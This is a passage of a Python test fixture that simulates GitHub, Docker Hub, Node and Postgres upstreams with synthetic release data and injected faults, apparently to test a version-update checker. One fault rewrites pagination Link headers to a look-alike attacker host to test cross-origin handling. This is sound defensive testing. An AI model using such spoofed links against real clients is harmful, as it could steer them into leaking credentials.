        ("v5.0.0", "2025-09-03", ""), ("v4.3.1", "2025-08-04", ""),
        ("v4.2.1", "2025-05-14", ""))),
)


def _actions() -> list[GhRepo]:
    repos: list[GhRepo] = []
    for component, repo, repo_id, plan in ACTIONS:
        newest_major = max((t for t, _, flag in plan if not flag), key=_action_key).split(".")[0]
        releases = tuple(
            # Same-day releases are listed newest first: the earlier in the plan, the later.
            GhRelease(tag=tag, day=day, time=f"{14 + sum(d == day for _, d, _ in plan[i + 1:])}"
                      ":05:02", draft=flag == "draft", prerelease=flag == "pre",
                      branch="main" if tag.split(".")[0] == newest_major
                      else f"releases/{tag.split('.')[0]}", title=tag)
            for i, (tag, day, flag) in enumerate(plan)
        )
        published = [r for r in releases if not r.draft]
        moving: dict[str, str] = {}
        for release in sorted(published, key=lambda r: _action_key(r.tag), reverse=True):
            if not release.prerelease:
                moving.setdefault(release.tag.split(".")[0], release.tag)
        tags = sorted([*moving, *(r.tag for r in published)], key=_action_key, reverse=True)
        stable = [r for r in published if not r.prerelease]
        latest = max(stable, key=lambda r: _action_key(r.tag)).tag
        repos.append(GhRepo(component=component, repo=repo, repo_id=repo_id, source="releases",
                            tags=tuple(tags), releases=releases, latest=latest, moving=moving))
    return repos


def _action_key(tag: str) -> tuple[int, ...]:
    """`v6.0.2` -> (6, 0, 2); a moving `v6` sorts after its releases, as GitHub lists it."""
    parts = tuple(int(p) for p in tag[1:].split("."))
    return parts + (-1,) * (3 - len(parts))


def _monthly(day: str, months: int) -> list[str]:
    """Monthly build dates (`YYYYMMDD`), newest first, starting at `day` and going back."""
    start = dt.date.fromisoformat(day)
    out = []
    for back in range(months):
        year, month = start.year, start.month - back
        while month <= 0:
            month += 12
            year -= 1
        out.append(dt.date(year, month, min(start.day, 28)).strftime("%Y%m%d"))
    return out


def _debian() -> HubRepo:
    tags: list[HubTag] = []
    for date in ["20260901", "20260803", *_monthly("2026-07-06", 9)]:
        pushed = f"{date[:4]}-{date[4:6]}-{date[6:]}T03:12:44.120931Z"
        kind = OCI_INDEX if date >= "20260101" else DOCKER_LIST
        archs = ("amd64", "arm64") if date >= "20260801" else ("amd64", "arm64", "arm/v7")
        tags += [HubTag(name=f"{suite}-{date}{slim}", pushed=pushed, media_type=kind, archs=archs)
                 for suite in ("trixie", "bookworm") for slim in ("-slim", "")]
    newest = "2026-09-01T03:12:44.120931Z"
    aliases = ["trixie", "trixie-slim", "trixie-backports", "13.6", "13.6-slim", "13", "13-slim",
               "latest", "stable", "stable-slim", "bookworm", "bookworm-slim", "12.15", "12",
               "oldstable", "forky", "forky-slim", "forky-20260901-slim", "sid", "sid-slim",
               "testing", "unstable", "experimental", "rc-buggy"]
    tags[0:0] = [HubTag(name=a, pushed=newest) for a in aliases]
    return HubRepo(repository="library/debian", component="debian", listed=True, tags=tuple(tags))


def _python() -> HubRepo:
    lines = {"3.14": (7, 0), "3.13": (15, 11), "3.12": (14, 13)}
    tags: list[HubTag] = []
    for pre in ("3.15.0rc2", "3.15.0rc1", "3.15.0b4"):
        tags += [HubTag(name=f"{pre}-slim-trixie", pushed="2026-09-02T11:00:00.000000Z")]
    tags += [HubTag(name=n, pushed="2026-09-02T11:00:00.000000Z")
             for n in ("3.15-rc-slim-trixie", "3.15-rc", "3.14-slim-trixie", "3-slim-trixie",
                       "slim-trixie", "3.14", "3", "latest")]
    for line, (top, low) in lines.items():
        for patch in range(top, low - 1, -1):
            version = f"{line}.{patch}"
            pushed = f"2026-08-{max(1, 20 - patch):02d}T09:30:00.000000Z"
            kind = OCI_INDEX if line in {"3.14", "3.13"} else DOCKER_LIST
            tags += [HubTag(name=f"{version}{suffix}", pushed=pushed, media_type=kind)
                     for suffix in ("-slim-trixie", "-trixie", "-slim-bookworm", "-slim", "")]
    return HubRepo(repository="library/python", component="python", listed=True, tags=tuple(tags))


def _node_images() -> HubRepo:
    versions = ["26.9.0", "24.21.0", "24.20.0", "24.19.0", "22.23.3", "22.23.2"]
    tags: list[HubTag] = []
    for version in versions:
        kind = DOCKER_LIST if version.startswith("24.21") else OCI_INDEX
        tags += [HubTag(name=f"{version}-{variant}", pushed="2026-09-08T18:01:02.000000Z",
                        media_type=kind) for variant in ("trixie-slim", "trixie", "alpine3.22")]
    tags += [HubTag(name=n, pushed="2026-09-08T18:01:02.000000Z")
             for n in ("lts-trixie-slim", "krypton-trixie-slim", "24-trixie-slim", "current")]
    return HubRepo(repository="library/node", component="node", listed=False, tags=tuple(tags))


def clickhouse_lines() -> dict[str, int]:
    return {"26.7": 5, "26.6": 2, "26.5": 2, "26.4": 2, "26.3": 3, "25.12": 2, "25.8": 3,
            "25.6": 2, "25.5": 6, "25.4": 2, "25.3": 2}


def _clickhouse() -> HubRepo:
    tags: list[HubTag] = [HubTag(name=n, pushed="2026-09-10T20:00:00.000000Z")
                          for n in ("latest", "head", "head-alpine", "lts", "26", "25")]
    for index, (line, top) in enumerate(clickhouse_lines().items()):
        kind = OCI_INDEX if index < 5 else DOCKER_LIST
        for patch in range(top, 0, -1):
            build = 10 + _num(f"{line}.{patch}") % 90
            pushed = f"{_days_before('2026-09-10', 30 * index + 4 * (top - patch))}T07:00:00Z"
            tags += [HubTag(name=f"{line}.{patch}{suffix}", pushed=pushed, media_type=kind)
                     for suffix in (f".{build}", "", "-alpine")]
        tags += [HubTag(name=f"{line}{suffix}", pushed=f"{_days_before('2026-09-10', 30 * index)}"
                        "T07:00:00Z", media_type=kind) for suffix in ("", "-alpine")]
    return HubRepo(repository="clickhouse/clickhouse-server", component="clickhouse",
                   listed=True, tags=tuple(tags))


def _zookeeper() -> HubRepo:
    tags = tuple(HubTag(name=n, pushed=p, media_type=DOCKER_LIST)
                 for n, p in (("latest", "2023-02-01T10:00:00Z"), ("3.7.1", "2023-02-01T10:00:00Z"),
                              ("3.7.0", "2022-04-12T10:00:00Z"), ("3.6.3", "2021-09-01T10:00:00Z"),
                              ("3.6.2", "2021-01-20T10:00:00Z")))
    return HubRepo(repository="signoz/zookeeper", component="zookeeper", listed=True, tags=tags)


def _signoz_images() -> list[HubRepo]:
    signoz = [HubTag(name=n, pushed="2026-08-19T12:00:00Z")
              for n in ("latest", "v0.138.0", "v0.137.1", "v0.137.0", "v0.136.0", "v0.135.1")]
    collector = [HubTag(name=n, pushed="2026-08-03T12:00:00Z", media_type=DOCKER_LIST)
                 for n in ("latest", "v0.144.7", "v0.144.6", "v0.144.5", "v0.129.13")]
    return [HubRepo(repository="signoz/signoz", component="signoz", listed=False,
                    tags=tuple(signoz)),
            HubRepo(repository="signoz/signoz-otel-collector", component="signoz-otel-collector",
                    listed=False, tags=tuple(collector))]


def node_index() -> list[dict[str, Any]]:
    """Node's dist/index.json (newest first); `lts` is false or the line's codename."""
    plan: list[tuple[str, str, str | bool, bool]] = [
        (f"26.{m}.0", _days_before("2026-09-08", 14 * (9 - m)), False, m == 9)
        for m in range(9, -1, -1)
    ]
    plan += [(f"25.{m}.0", _days_before("2026-05-20", 21 * (9 - m)), False, False)
             for m in range(9, -1, -1)]
    plan += [(f"24.{m}.0", _days_before("2026-09-07", 14 * (21 - m)),
              "Krypton" if m >= 11 else False, m == 21) for m in range(21, -1, -1)]
    plan += [("22.23.3", "2026-09-07", "Jod", True), ("22.23.2", "2026-07-15", "Jod", False)]
    plan += [(f"22.{m}.0", _days_before("2026-06-10", 30 * (22 - m)), "Jod" if m >= 11 else False,
              False) for m in range(22, 9, -1)]
    plan += [(f"20.19.{p}", _days_before("2026-03-25", 40 * (6 - p)), "Iron", False)
             for p in range(6, -1, -1)]
    entries: list[dict[str, Any]] = []
    for version, day, lts, security in sorted(
        plan, key=lambda e: [int(x) for x in e[0].split(".")], reverse=True
    ):
        major = int(version.split(".")[0])
        entries.append({
            "version": f"v{version}", "date": day,
            "files": ["headers", "linux-arm64", "linux-x64", "osx-arm64-tar", "src",
                      "win-x64-zip"],
            "npm": {26: "11.6.0", 25: "11.5.1", 24: "11.4.2", 22: "10.9.3"}.get(major, "10.8.2"),
            "v8": {26: "14.1.146.11", 25: "13.9.205.20", 24: "13.6.233.10"}.get(
                major, "12.4.254.21-node.27"),
            "uv": "1.51.0", "zlib": "1.3.1-470d3a2",
            "openssl": "3.0.17" if major <= 22 else "3.5.2",
            "modules": {26: "147", 25: "141", 24: "137", 22: "127"}.get(major, "115"),
            "lts": lts, "security": security,
        })
    return entries


def postgres_feed() -> list[dict[str, Any]]:
    rows: list[tuple[str, str, str, str, str, bool, bool]] = [
        ("18", "7", "2025-09-25", "2030-11-14", "2026-09-11", True, True),
        ("17", "12", "2024-09-26", "2029-11-08", "2026-09-11", False, True),
        ("16", "16", "2023-09-14", "2028-11-09", "2026-09-11", False, True),
        ("15", "20", "2022-10-13", "2027-11-11", "2026-09-11", False, True),
        ("14", "25", "2021-09-30", "2026-11-12", "2026-09-11", False, True),
        ("13", "23", "2020-09-24", "2025-11-13", "2025-11-13", False, False),
        ("12", "22", "2019-10-03", "2024-11-21", "2024-11-21", False, False),
        ("11", "22", "2018-10-18", "2023-11-09", "2023-11-09", False, False),
        ("10", "23", "2017-10-05", "2022-11-10", "2022-11-10", False, False),
        ("9.6", "24", "2016-09-29", "2021-11-11", "2021-11-11", False, False),
    ]
    return [{"current": current, "eolDate": eol, "firstRelDate": first, "latestMinor": minor,
             "major": major, "relDate": rel, "supported": supported}
            for major, minor, first, eol, rel, current, supported in rows]


POSTGRES_FILES = ("17.12", "17.11", "17.10", "18.7", "18.6", "16.16", "15.20", "14.25",
                  "19beta3")


# --- the world ------------------------------------------------------------------------------------


@dataclass(frozen=True, slots=True, kw_only=True)
class _Request:
    method: str
    host: str
    path: str
    query: Mapping[str, str]
    headers: Mapping[str, str]
    body: bytes = b""

    @property
    def url(self) -> str:
        query = urlencode(dict(self.query))
        return f"https://{self.host}{self.path}" + (f"?{query}" if query else "")

    def number(self, key: str, default: int, low: int = 1, high: int = 10**6) -> int:
        try:
            value = int(self.query.get(key, default))
        except ValueError:
            value = default
        return max(low, min(high, value))


Respond = Callable[[_Request, Fault | None], Reply]
RoleOf = Callable[[_Request], Role]


@dataclass(frozen=True, slots=True)
class _Endpoint:
    component: Callable[[_Request], str | None]
    role: RoleOf
    respond: Respond
    method: str = "GET"


def _fixed(value: Role) -> RoleOf:
    return lambda _request: value


def _owner(component: str | None) -> Callable[[_Request], str | None]:
    return lambda _request: component


def _constant_json(document: Any) -> Respond:
    return lambda request, _fault: _json(document, headers=_gh_headers(request))


def _json(document: Any, *, status: int = 200, headers: Mapping[str, str] | None = None,
          etag: bool = True) -> Reply:
    body = _compact(document)
    extra = dict(headers or {})
    if etag:
        extra["ETag"] = f'W/"{sha256(body)[:40]}"'
    return Reply(status=status, body=body,
                 headers={"Content-Type": "application/json; charset=utf-8", **extra})


def _file(body: bytes, content_type: str, *, etag: bool = True) -> Reply:
    headers = {"Content-Type": content_type}
    if etag:
        headers["ETag"] = f'"{sha256(body)[:32]}"'
    return Reply(body=body, headers=headers)


def _redirect(location: str) -> Reply:
    return Reply(status=302, headers={"Location": location, "Content-Type": "text/html"},
                 body=f'<html><body>You are being <a href="{location}">redirected</a>.'
                 "</body></html>".encode())


def _wrong_name(name: str) -> str:
    """Another file's name: `squid-7.7.tar.xz` -> `squid-7.7-1.tar.xz`."""
    stem, dot, rest = name.partition(".tar")
    return f"{stem}-1{dot}{rest}" if dot else f"{name}.orig"


class FakeWorld:
    """Every upstream of `versions.yaml`, answering on an `UpstreamServer` (`install`)."""

    COMPONENTS = ("debian", "node", "python", "kamailio", "rtpengine", "janus", "coturn",
                  "caddy", "caddy-arm64", "asterisk", "postgresql", "redis", "pgbouncer",
                  "signoz", "signoz-otel-collector", "clickhouse", "zookeeper", "squid",
                  "actions-checkout", "actions-setup-python", "actions-cache",
                  "actions-upload-artifact", "actions-download-artifact",
                  "aws-configure-aws-credentials", "debian-snapshot", "pjproject",
                  "histogram-quantile", "docker-setup-buildx-action",
                  "sigstore-cosign-installer")

    def __init__(self, overrides: Mapping[str, Override] | None = None) -> None:
        self.overrides: Mapping[str, Override] = MappingProxyType(dict(overrides or {}))
        self.log: list[Exchange] = []
        self._lock = threading.Lock()
        self._counts: dict[tuple[str, Role, int], int] = {}
        self._endpoints: dict[str, _Endpoint] = {}
        self._sha256: dict[tuple[str, str], str] = {}
        self._digests: dict[tuple[str, str], str] = {}
        self._commits: dict[tuple[str, str], str] = {}
        self._image_component: dict[str, str] = {}
        self._memo: dict[tuple[object, ...], Any] = {}
        self._check_overrides()
        self.repos = (_kamailio(), _rtpengine(), _janus(), _coturn(), _caddy(), _asterisk(),
                      _redis(), _pgbouncer(), _signoz(), _collector(), _squid(), *_actions())
        self.images = (_debian(), _python(), _node_images(), _clickhouse(), _zookeeper(),
                       *_signoz_images())
        for repo in self.repos:
            self._add_github(repo)
        for image in self.images:
            self._add_image(image)
        self._add_token_endpoint()
        self._add_node()
        self._add_postgres()
        self._add_kamailio_site()
        self._add_asterisk_downloads()
        self._add_redis_downloads()
        self._add_pgbouncer_site()
        install_supply(self)  # first: it adds repositories the two below serve too
        self.graphql = add_graphql(self)  # POST /graphql, from the same repos (world_graphql)
        add_advisories(self)
        add_gitrefs(self)  # git/refs/tags, what nvchecker reads (benchmarks/check_bench.py)
        add_eol(self)
        add_sets(self)
        add_caddy_arm64(self)  # caddy's linux/arm64 archive, a component of its own (world_caddy)
        add_signatures(self)  # upstream signatures versions.yaml declares (world_signatures)

    # What tests ask the world

    def sha256_for(self, component: str, version: str) -> str:
        """The sha256 upstream publishes (or, for `compute` kinds, serves) for the archive
        `versions.yaml` pins of `component` at `version`."""
        return self._sha256[(component, version)]

    def digest_for(self, repository: str, tag: str) -> str:
        """The index digest `repository:tag` points at (`library/debian`, `trixie-...-slim`)."""
        return self._digests[(repository, tag)]

    def commit_for(self, repo: str, tag: str) -> str:
        """The commit SHA `GET /repos/{repo}/commits/{tag}` answers (`actions/checkout`, `v6.0.2`)."""
        return self._commits[(repo, tag)]

    def exchanges(
        self, *, host: str | None = None, component: str | None = None, role: Role | None = None,
    ) -> list[Exchange]:
        with self._lock:
            return [e for e in self.log
                    if (host is None or e.host == host)
                    and (component is None or e.component == component)
                    and (role is None or e.role == role)]

    def knows(self, target: str) -> bool:
        """Whether a server request target (`/api.github.com/repos/...?...`) is a world route."""
        return urlsplit(target).path in self._endpoints

    def install(self, server: UpstreamServer) -> FakeWorld:
        """Answer on `server` (started); returns the world, for chaining."""
        for path, endpoint in self._endpoints.items():
            server.route_handler(endpoint.method, path, self._handle)
        return self

    # Answering

    def _handle(self, recorded: RecordedRequest) -> Reply:
        parts = urlsplit(recorded.target)
        _, host, path = parts.path.split("/", 2)
        request = _Request(
            method=recorded.method, host=host, path="/" + path,
            query=dict(parse_qsl(parts.query, keep_blank_values=True)), headers=recorded.headers,
            body=recorded.body,
        )
        endpoint = self._endpoints[parts.path]
        component = endpoint.component(request)
        role = endpoint.role(request)
        fault = self._fault_for(component, role)
        reply = self._faulty(fault, request, endpoint) if fault is not None else None
        if reply is None:
            content_fault = fault if fault is not None and fault.kind in _CONTENT_FAULTS else None
            reply = self._conditional(request, endpoint.respond(request, content_fault))
        with self._lock:
            self.log.append(Exchange(
                method=request.method, url=request.url, host=host, path=request.path,
                component=component, role=role, status=0 if reply.hang else reply.status,
                headers=request.headers,
            ))
        return reply

    def _fault_for(self, component: str | None, role: Role) -> Fault | None:
        if component is None or component not in self.overrides:
            return None
        for index, fault in enumerate(self.overrides[component].faults):
            if fault.role != role:
                continue
            if fault.kind not in TRANSIENT:
                return fault
            with self._lock:
                seen = self._counts.get((component, role, index), 0)
                if seen < fault.times:
                    self._counts[(component, role, index)] = seen + 1
                    return fault
        return None

    def _faulty(self, fault: Fault, request: _Request, endpoint: _Endpoint) -> Reply | None:
        github = request.host == "api.github.com"
        match fault.kind:
            case FaultKind.RATE_LIMITED:
                headers = {"Retry-After": str(fault.retry_after)}
                if github:
                    headers |= {"x-ratelimit-limit": "60", "x-ratelimit-remaining": "0",
                                "x-ratelimit-reset": _RATELIMIT_RESET, "x-ratelimit-used": "60",
                                "x-ratelimit-resource": "core"}
                return _json({"message": "You have exceeded a secondary rate limit. Please "
                              "wait a few minutes before you try again."},
                             status=429, headers=headers, etag=False)
            case FaultKind.UNAVAILABLE:
                return Reply(status=503, body=b"<html><body><h1>503 Service Unavailable</h1>"
                             b"No server is available to handle this request.</body></html>",
                             headers={"Content-Type": "text/html"})
            case FaultKind.GITHUB_RATE_LIMIT:
                return _json({"message": "API rate limit exceeded for 203.0.113.7. (But here's "
                              "the good news: Authenticated requests get a higher rate limit.)",
                              "documentation_url": "https://docs.github.com/rest/overview/"
                              "rate-limits-for-the-rest-api"}, status=403, etag=False,
                             headers={"x-ratelimit-limit": "60", "x-ratelimit-remaining": "0",
                                      "x-ratelimit-reset": _FAR_RESET, "x-ratelimit-used": "60",
                                      "x-ratelimit-resource": "core"})
            case FaultKind.HANG:
                return Reply(hang=True)
            case FaultKind.MALFORMED_JSON:
                real = endpoint.respond(request, None)
                return Reply(status=200, body=real.body[: len(real.body) // 2],
                             headers={"Content-Type": "application/json; charset=utf-8"})
            case FaultKind.HTML:
                return Reply(status=200, headers={"Content-Type": "text/html; charset=utf-8"},
                             body=b"<!DOCTYPE html>\n<html><head><title>Unicorn! &middot; "
                             b"GitHub</title></head><body><p>This page is taking too long to "
                             b"load.</p></body></html>\n")
            case FaultKind.CROSS_ORIGIN_NEXT | FaultKind.WRONG_FILE:
                return None

    @staticmethod
    def _conditional(request: _Request, reply: Reply) -> Reply:
        etag = reply.headers.get("ETag")
        match = request.headers.get("if-none-match")
        if reply.status != 200 or etag is None or match is None:
            return reply
        wanted = {t.strip().removeprefix("W/") for t in match.split(",")}
        if etag.removeprefix("W/") not in wanted:
            return reply
        kept = {k: v for k, v in reply.headers.items() if k.lower() != "content-type"}
        return Reply(status=304, headers=kept)

    def _check_overrides(self) -> None:
        for name, override in self.overrides.items():
            if name not in self.COMPONENTS:
                raise ValueError(f"no component {name!r} in the world")
            for fault in override.faults:
                roles = _CONTENT_FAULTS.get(fault.kind)
                if roles is not None and fault.role not in roles:
                    raise ValueError(f"{fault.kind} applies to {sorted(roles)}, not {fault.role}")

    def _memoized(self, key: tuple[object, ...], make: Callable[[], Any]) -> Any:
        """`make()`, computed once per key (listings are rebuilt for every request otherwise)."""
        with self._lock:
            if key in self._memo:
                return self._memo[key]
        value = make()
        with self._lock:
            return self._memo.setdefault(key, value)

    def _extra(self, component: str) -> tuple[str, ...]:
        override = self.overrides.get(component)
        return override.extra_tags if override is not None else ()

    def _add(self, url: str, component: str | Callable[[_Request], str | None] | None,
             role: Role | RoleOf, respond: Respond, *, method: str = "GET") -> None:
        """Answer `method url` (query ignored) with `respond`; `component` owns the exchange
        (for faults and `exchanges`). The hook for world parts in `tests/world_*.py`."""
        parts = urlsplit(url)
        key = f"/{parts.netloc}{parts.path}"
        owner = component if callable(component) else _owner(component)
        self._endpoints[key] = _Endpoint(
            component=owner, role=_fixed(role) if isinstance(role, Role) else role,
            respond=respond, method=method,
        )

    def _static(self, url: str, component: str | None, role: Role, reply: Reply,
                wrong: Reply | None = None) -> None:
        def respond(_request: _Request, fault: Fault | None) -> Reply:
            return wrong if wrong is not None and fault is not None else reply

        self._add(url, component, role, respond)

    # GitHub

    def _add_github(self, repo: GhRepo) -> None:
        api = f"{GITHUB_API}/repos/{repo.repo}"
        for kind in ("tags", "releases"):
            first = Role.LISTING if kind == repo.source else Role.OTHER
            later = Role.PAGE if kind == repo.source else Role.OTHER

            def role_of(request: _Request, first: Role = first, later: Role = later) -> Role:
                return first if request.number("page", 1) == 1 else later

            respond = self._github_listing(repo, kind)
            self._add(f"{api}/{kind}", repo.component, role_of, respond)
            self._add(f"{GITHUB_API}/repositories/{repo.repo_id}/{kind}", repo.component,
                      role_of, respond)
        by_tag = {r.tag: r for r in repo.releases}
        if repo.latest is not None:
            latest = self._release_json(repo, by_tag[repo.latest])
            self._add(f"{api}/releases/latest", repo.component, Role.LATEST,
                      _constant_json(latest))
        for release in repo.releases:
            if release.draft:
                continue
            self._add(f"{api}/releases/tags/{release.tag}", repo.component, Role.RELEASE,
                      self._github_release(repo, release))
            for name in release.assets:
                self._add_asset(repo, release, name)
        if repo.archives:
            for tag in repo.tags:
                self._add_archive(repo, tag)
        for tag in repo.tags:
            self._commits[(repo.repo, tag)] = self._tag_sha(repo, tag)
            self._add(f"{api}/commits/{quote(tag, safe='')}", repo.component, Role.COMMIT,
                      self._github_commit(repo, tag))

    def _github_listing(self, repo: GhRepo, kind: str) -> Respond:
        def respond(request: _Request, fault: Fault | None) -> Reply:
            authed = "authorization" in request.headers
            extra = self._extra(repo.component) if kind == repo.source else ()

            def make() -> list[dict[str, Any]]:
                if kind == "tags":
                    return [self._tag_json(repo, t) for t in (*extra, *repo.tags)]
                injected = [GhRelease(tag=t, day="2026-09-15", title=t) for t in extra]
                return [self._release_json(repo, r) for r in (*injected, *repo.releases)
                        if authed or not r.draft]

            items: list[dict[str, Any]] = self._memoized((repo.repo, kind, authed), make)
            per_page = request.number("per_page", 30, high=100)
            page = request.number("page", 1)
            last = max(1, math.ceil(len(items) / per_page))
            base = f"{GITHUB_API}/repositories/{repo.repo_id}/{kind}"

            def at(number: int, host: str = base) -> str:
                return f"<{host}?per_page={per_page}&page={number}>"

            links: list[str] = []
            if page > 1:
                links.append(f'{at(page - 1)}; rel="prev"')
            if page < last:
                links += [f'{at(page + 1)}; rel="next"', f'{at(last)}; rel="last"']
            if page > 1:
                links.append(f'{at(1)}; rel="first"')
            if fault is not None and fault.kind is FaultKind.CROSS_ORIGIN_NEXT:
                evil = base.replace("api.github.com", f"api.github.com.{EVIL}")
                links = [f'{at(2, evil)}; rel="next"', f'{at(2, evil)}; rel="last"']
            headers = _gh_headers(request)
            if links:
                headers["Link"] = ", ".join(links)
            return _json(items[(page - 1) * per_page: page * per_page], headers=headers)

        return respond

    def _github_release(self, repo: GhRepo, release: GhRelease) -> Respond:
        def respond(request: _Request, fault: Fault | None) -> Reply:
            document = self._release_json(repo, release)
            if fault is not None and fault.kind is FaultKind.WRONG_FILE:
                for asset in document["assets"]:
                    asset["name"] = _wrong_name(asset["name"])
            return _json(document, headers=_gh_headers(request))

        return respond

    def _github_commit(self, repo: GhRepo, tag: str) -> Respond:
        """`/commits/{tag}`: the bare SHA for `Accept: application/vnd.github.sha`, else JSON."""
        sha = self._tag_sha(repo, tag)

        def respond(request: _Request, _fault: Fault | None) -> Reply:
            headers = _gh_headers(request)
            if "application/vnd.github.sha" in request.headers.get("accept", ""):
                body = sha.encode()  # no newline: the 40 hex digits and nothing else
                return Reply(body=body, headers={
                    **headers, "X-GitHub-Media-Type": "github.v3; param=sha",
                    "Content-Type": "application/vnd.github.sha; charset=utf-8",
                    "ETag": f'W/"{sha256(body)[:40]}"',
                })
            return _json(self._commit_json(repo, tag, sha), headers=headers)

        return respond

    @staticmethod
    def _tag_sha(repo: GhRepo, tag: str) -> str:
        return commit_sha(repo.repo, repo.moving.get(tag, tag))

    @staticmethod
    def _commit_json(repo: GhRepo, tag: str, sha: str) -> dict[str, Any]:
        api = f"{GITHUB_API}/repos/{repo.repo}"
        target = repo.moving.get(tag, tag)
        release = next((r for r in repo.releases if r.tag == target), None)
        when = release.created if release is not None else "2025-01-15T10:00:00Z"
        parent = _hexid(f"{sha}^")
        person = {"name": f"{repo.repo.split('/')[0]}-bot", "email": "bot@users.noreply.github.com",
                  "date": when}
        return {
            "sha": sha, "node_id": "C_kwDO" + _b64url(sha[:12].encode()),
            "commit": {"author": person, "committer": person,
                       "message": f"Release {target}", "comment_count": 0,
                       "tree": {"sha": _hexid(f"{sha}^{{tree}}"),
                                "url": f"{api}/git/trees/{_hexid(f'{sha}^{{tree}}')}"},
                       "url": f"{api}/git/commits/{sha}",
                       "verification": {"verified": False, "reason": "unsigned",
                                        "signature": None, "payload": None,
                                        "verified_at": None}},
            "url": f"{api}/commits/{sha}", "html_url": f"https://github.com/{repo.repo}/commit/{sha}",
            "comments_url": f"{api}/commits/{sha}/comments", "author": None, "committer": None,
            "parents": [{"sha": parent, "url": f"{api}/commits/{parent}",
                         "html_url": f"https://github.com/{repo.repo}/commit/{parent}"}],
            "stats": {"total": 2, "additions": 1, "deletions": 1},
            "files": [{"filename": "package.json", "status": "modified", "additions": 1,
                       "deletions": 1, "changes": 2}],
        }

    @classmethod
    def _tag_json(cls, repo: GhRepo, tag: str) -> dict[str, Any]:
        sha = cls._tag_sha(repo, tag)
        return {
            "name": tag,
            "zipball_url": f"{GITHUB_API}/repos/{repo.repo}/zipball/refs/tags/{tag}",
            "tarball_url": f"{GITHUB_API}/repos/{repo.repo}/tarball/refs/tags/{tag}",
            "commit": {"sha": sha, "url": f"{GITHUB_API}/repos/{repo.repo}/commits/{sha}"},
            "node_id": "MDM6UmVm" + _b64url(f"{repo.repo_id}:refs/tags/{tag}".encode()),
        }

    def _release_json(self, repo: GhRepo, release: GhRelease) -> dict[str, Any]:
        rid = _num(f"{repo.repo}/release/{release.tag}")
        api = f"{GITHUB_API}/repos/{repo.repo}"
        owner = repo.repo.split("/")[0]
        published = None if release.draft else release.created
        html_tag = f"untagged-{_hexid(release.tag, 20)}" if release.draft else release.tag
        assets = []
        for name in release.assets:
            data = fake_bytes(self._asset_url(repo, release, name), 2048)
            aid = _num(f"{repo.repo}/asset/{release.tag}/{name}")
            assets.append({
                "url": f"{api}/releases/assets/{aid}", "id": aid,
                "node_id": "RA_kwDO" + _b64url(str(aid).encode()), "name": name, "label": "",
                "uploader": {"login": f"{owner.lower()}-bot", "id": _num(owner), "type": "Bot"},
                "content_type": "text/plain" if name.endswith((".txt", ".md", ".asc", ".sha256",
                                                               ".md5", ".sha1", ".sig", ".pem"))
                else "application/gzip",
                "state": "uploaded", "size": len(data),
                "digest": f"sha256:{sha256(data)}" if release.day >= _ASSET_DIGESTS_SINCE
                else None,
                "download_count": _num(name) % 5000, "created_at": release.created,
                "updated_at": release.created,
                "browser_download_url": self._asset_url(repo, release, name),
            })
        return {
            "url": f"{api}/releases/{rid}", "assets_url": f"{api}/releases/{rid}/assets",
            "upload_url": f"https://uploads.github.com/repos/{repo.repo}/releases/{rid}/assets"
            "{?name,label}",
            "html_url": f"https://github.com/{repo.repo}/releases/tag/{html_tag}",
            "id": rid,
            "author": {"login": f"{owner.lower()}-bot", "id": _num(owner), "type": "Bot",
                       "site_admin": False},
            "node_id": "RE_kwDO" + _b64url(str(rid).encode()), "tag_name": release.tag,
            "target_commitish": release.branch, "name": release.title or release.tag,
            "draft": release.draft, "immutable": release.day >= "2025-10-28",
            "prerelease": release.prerelease, "created_at": release.created,
            "updated_at": release.created, "published_at": published, "assets": assets,
            "tarball_url": f"{api}/tarball/{release.tag}",
            "zipball_url": f"{api}/zipball/{release.tag}",
            "body": f"## {release.title or release.tag}\n\nSee the change log.\n",
        }

    @staticmethod
    def _asset_url(repo: GhRepo, release: GhRelease, name: str) -> str:
        return f"https://github.com/{repo.repo}/releases/download/{release.tag}/{name}"

    def _add_asset(self, repo: GhRepo, release: GhRelease, name: str) -> None:
        url = self._asset_url(repo, release, name)
        data = fake_bytes(url, 2048)
        aid = _num(f"{repo.repo}/asset/{release.tag}/{name}")
        cdn = ("https://release-assets.githubusercontent.com/github-production-release-asset/"
               f"{repo.repo_id}/{aid}")
        self._static(url, repo.component, Role.ASSET, _redirect(cdn))
        self._static(cdn, repo.component, Role.ASSET, _file(data, "application/octet-stream"))
        if release.day >= _ASSET_DIGESTS_SINCE:
            version = _asset_version(repo.component, release.tag, name)
            if version is not None:
                self._sha256[(repo.component, version)] = sha256(data)

    def _add_archive(self, repo: GhRepo, tag: str) -> None:
        url = f"https://github.com/{repo.repo}/archive/refs/tags/{tag}.tar.gz"
        codeload = f"https://codeload.github.com/{repo.repo}/tar.gz/refs/tags/{tag}"
        data = fake_bytes(url)
        self._static(url, repo.component, Role.ARCHIVE, _redirect(codeload))
        reply = _file(data, "application/x-gzip")
        name = f"{repo.repo.split('/')[1]}-{tag.replace('/', '-')}.tar.gz"
        reply = Reply(body=reply.body, headers={
            **reply.headers, "Content-Disposition": f"attachment; filename={name}"})
        self._static(codeload, repo.component, Role.ARCHIVE, reply)
        version = {"rtpengine": tag.removeprefix("mr"), "janus": tag.removeprefix("v")}.get(
            repo.component, tag)
        self._sha256[(repo.component, version)] = sha256(data)

    # Docker Hub and the registry

    def _add_image(self, image: HubRepo) -> None:
        self._image_component[image.repository] = image.component
        first = Role.LISTING if image.listed else Role.OTHER
        later = Role.PAGE if image.listed else Role.OTHER

        def role_of(request: _Request) -> Role:
            return first if request.number("page", 1) == 1 else later

        for legacy in (False, True):
            path = (f"{HUB}/v2/repositories/{image.repository}/tags" if legacy else
                    f"{HUB}/v2/namespaces/{image.namespace}/repositories/{image.name}/tags")
            self._add(path, image.component, role_of, self._hub_listing(image, path))
        for tag in image.tags:
            index, _ = self._manifests(image, tag)
            self._digests[(image.repository, tag.name)] = "sha256:" + sha256(index)
            self._add(f"{REGISTRY}/v2/{image.repository}/manifests/{tag.name}", image.component,
                      Role.MANIFEST, self._manifest(image, tag))

    def _hub_listing(self, image: HubRepo, base: str) -> Respond:
        def respond(request: _Request, fault: Fault | None) -> Reply:
            size = request.number("page_size", 10, high=100)
            page = request.number("page", 1)
            name = request.query.get("name")
            extra = self._extra(image.component) if image.listed else ()
            tags = [HubTag(name=t, pushed="2026-09-15T00:00:00Z") for t in extra]
            tags += [t for t in image.tags if not name or name in t.name]
            last = max(1, math.ceil(len(tags) / size))
            if page > last:
                return _json({"message": "httperror 404: object not found", "errinfo": {}},
                             status=404, etag=False)

            def at(number: int, where: str = base) -> str:
